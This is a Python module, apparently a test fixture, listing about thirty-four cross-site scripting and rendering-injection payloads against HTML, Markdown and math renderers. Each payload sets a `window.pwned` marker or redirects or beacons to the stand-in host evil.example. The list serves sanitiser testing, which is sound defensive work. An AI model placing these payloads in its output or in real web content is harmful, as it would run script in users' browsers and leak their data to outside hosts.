"""Answers that attack whoever looks at them: each sets `window.pwned`, or leads or asks to https://evil.example/.

Those that begin with `<`, `&` or `"` hold no Markdown: who shows them as text shows them as they stand here.
The first five act by themselves in a page that trusts them.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '<svg onload="window.pwned=1"></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe src="https://evil.example/" srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "[click](javascript:window.pwned=1)",
    "[click](data:text/html,<script>location='https://evil.example/'</script>)",
    "<a href=\"https://evil.example/\" onmouseover='window.pwned=1' style='position:fixed;inset:0'>click</a>",
    "<style>@import url(https://evil.example/a.css);</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<base href="https://evil.example/"><img src="x.png">',
    '<form action="https://evil.example/"><input autofocus onfocus="window.pwned=1"></form>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<details open ontoggle="window.pwned=1"><video><source onerror="window.pwned=1"></video></details>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">click</maction></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
    "<!--><img src=x onerror=window.pwned=1>-->",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    '"><img src=x onerror=window.pwned=1>',
    '[a](b "\\" onmouseover=window.pwned=1 x=\\"") [a](<"onclick=window.pwned=1 x=">)',
    '```html"><img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n```',
    "    </code></pre><script>window.pwned=1</script>",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "![beacon](https://evil.example/b.png) ![][b]\n\n[b]: https://evil.example/b.png",
    "<https://evil.example/> [b][c] <javascript:window.pwned=1>\n\n[c]: https://evil.example/",
    "$\\text{<script>window.pwned=1</script>}$ $\\text{<img src=x onerror=window.pwned=1>}$",
    "$\\text{&#x3c;img src=x onerror=window.pwned=1&#x3e;}$ $\\text{&lt;img src=x onerror=window.pwned=1&gt;}$",
    "$\\unicode{3C}\\text{img src=x onerror=window.pwned=1}\\unicode{3E}$ $\\operatorname{<script>}$",
    "$\\href{javascript:window.pwned=1}{x}$ \\[\\href{https://evil.example/}{\\text{click}}\\]",
    '$\\style{background:url(https://evil.example/)}{x}$ $\\class{" onclick=window.pwned=1}{x}$',
    '$$\\text{" onload=window.pwned=1 x="}$$ $\\frac{<img src=x onerror=window.pwned=1>}$',
    "$$\n\\text{</math><img src=x onerror=window.pwned=1>}\n$$",
)
